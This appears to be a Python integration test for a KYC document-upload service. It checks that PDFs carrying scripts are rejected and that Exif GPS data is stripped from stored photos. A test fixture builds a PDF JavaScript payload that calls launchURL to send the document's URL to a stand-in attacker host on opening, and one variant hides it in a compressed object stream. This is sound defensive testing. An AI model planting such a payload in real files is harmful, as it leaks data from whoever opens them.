"""What a document file carries, checked whole before it is stored, over native gRPC on real
PostgreSQL: a PDF with a script is refused on its file field, inline and streamed, and nothing
is stored; a photo is stored without its Exif location, and its stored size is said."""

from __future__ import annotations

from collections.abc import AsyncIterator

import grpc
import pytest

from tests.integration.kyc.conftest import KycStack
from tests.integration.kyc.kyc_support import pan, submit_request, upload_stream
from tests.support import rpc_failure
from tests.unit.kyc import sample_files as sf
from vaultpay.kyc.v1 import kyc_pb2

pytestmark = pytest.mark.integration

SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('https://attacker.example/' + this.URL)) >>"


async def _count_submissions(kyc: KycStack, user_id: str) -> int:
    _, staff = kyc.staff()
    reply = await kyc.admin.AdminListKycSubmissions(
        kyc_pb2.AdminListKycSubmissionsRequest(user_id=user_id), metadata=staff
    )
    return len(reply.submissions)


async def _messages(
    items: list[kyc_pb2.UploadKycDocumentRequest],
) -> AsyncIterator[kyc_pb2.UploadKycDocumentRequest]:
    for item in items:
        yield item


async def test_a_pdf_with_a_script_is_refused_inline_and_streamed_and_nothing_is_stored(
    kyc: KycStack,
) -> None:
    on_opening = sf.pdf(sf.catalog(b"/OpenAction 3 0 R"), sf.page(), SCRIPT)
    # The same script compressed in an object stream, and 300 kB of scan around it.
    scan = sf.stream(b"/Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode", b"\x55" * 300_000)
    hidden = sf.pdf(sf.catalog(), sf.page(), sf.object_stream([(5, SCRIPT)]), scan)
    assert b"JavaScript" not in hidden

    user_id, user = kyc.user()
    failure = await rpc_failure(
        kyc.public.SubmitKyc(submit_request(pan(), on_opening), metadata=user)
    )
    assert (failure.code, failure.fields) == (grpc.StatusCode.INVALID_ARGUMENT, ["document_file"])
    assert "/OpenAction" in failure.message and "launchURL" not in failure.message

    messages = list(upload_stream(pan(), hidden, chunk=64 * 1024))
    failure = await rpc_failure(kyc.public.UploadKycDocument(_messages(messages), metadata=user))
    assert (failure.code, failure.fields) == (grpc.StatusCode.INVALID_ARGUMENT, ["chunk"])
    assert "/JavaScript" in failure.message
    assert await _count_submissions(kyc, user_id) == 0


async def test_a_photo_is_stored_without_its_exif_location(kyc: KycStack) -> None:
    _, moderator = kyc.staff()
    photo = sf.jpeg(exif=sf.exif_block(orientation=1, gps=True))
    _, user = kyc.user()
    reply = await kyc.public.UploadKycDocument(
        upload_stream(pan(), photo, content_type="image/jpeg"), metadata=user
    )
    viewed = await kyc.admin.AdminGetKycSubmission(
        kyc_pb2.AdminGetKycSubmissionRequest(submission_id=reply.submission.submission_id),
        metadata=moderator,
    )
    assert viewed.document_file == sf.jpeg()
    assert reply.submission.document_size_bytes == len(sf.jpeg()) < len(photo)
